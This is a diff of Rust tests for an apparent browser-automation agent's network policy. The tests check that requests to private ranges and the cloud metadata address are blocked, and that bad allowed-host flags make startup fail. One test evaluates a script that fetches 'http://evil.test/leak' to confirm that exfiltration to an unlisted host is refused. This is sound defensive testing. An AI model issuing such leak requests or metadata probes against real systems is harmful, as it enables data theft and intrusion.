@@ -106,11 +106,14 @@ fn what_a_page_asks_for_is_refused_and_told() {
         "blocked_by_policy: http://169.254.169.254/latest (link-local range",
         "blocked_by_policy: 10.0.0.3:443 (private range 10.0.0.0/8)",
         "blocked_by_policy: http://10.0.0.4/by-redirect (private range 10.0.0.0/8)",
-        "blocked_by_policy: 10.0.0.5:8080 (private range 10.0.0.0/8)",
         "blocked_by_policy: 10.0.0.6:443 (private range 10.0.0.0/8)",
     ] {
         assert!(told.contains(line), "{line}: {told}");
     }
+    // WebKit asks its proxy for the socket itself, the others for a tunnel.
+    let socket = ["10.0.0.5:8080", "ws://10.0.0.5:8080/"];
+    let socket = socket.map(|what| format!("blocked_by_policy: {what} (private range 10.0.0.0/8)"));
+    assert!(socket.iter().any(|line| told.contains(line)), "{told}");
     assert!(!told.contains("\"open\""), "{told}");
     let later = agent.text("snapshot", &json!({}));
     assert!(!later.contains("blocked_by_policy"), "each is told once: {later}");
@@ -167,13 +170,6 @@ fn with_a_list_only_it_and_this_machine_are_reached() {
     let script = "async () => { try { await fetch('http://evil.test/leak') } catch {} return 1 }";
     let told = agent.text("evaluate", &json!({ "script": script }));
     assert!(told.contains("http://evil.test/leak (not listed in ALLOWED_HOSTS)"), "{told}");
-    for (list, part) in
-        [("http://a.test", "is a URL"), (" , ", "at least one host"), ("10.0.0.1/8", "10.0.0.0/8")]
-    {
-        let mut client = common::on_pipes(&["--allowed-hosts", list]);
-        assert_eq!(client.wait_exit(LIMIT).unwrap().code(), Some(2), "{list}");
-        assert!(client.stderr().join("\n").contains(part), "{:?}", client.stderr());
-    }
 }
 
 #[test]
@@ -254,4 +250,17 @@ fn a_sessions_end_leaves_no_port_behind() {
     agent.text("close_session", &json!({ "sessionId": second }));
     let none = wait_until(LIMIT, || (listening(pid) == before).then_some(()));
     assert!(none.is_some(), "{} ports are left", listening(pid) - before);
+}
+
+#[test]
+fn a_list_that_cannot_be_read_and_a_boundary_that_would_not_hold_end_the_start() {
+    for flags in [
+        &["--allowed-hosts", "http://a.test"][..],
+        &["--allowed-hosts", " , "],
+        &["--allowed-hosts", "a.test", "--cdp-endpoint", "ws://127.0.0.1:1/"],
+        &["--strict-loopback", "--cdp-endpoint", "ws://127.0.0.1:1/"],
+    ] {
+        let mut client = common::on_pipes(flags);
+        assert_eq!(client.wait_exit(LIMIT).unwrap().code(), Some(2), "{flags:?}");
+    }
 }
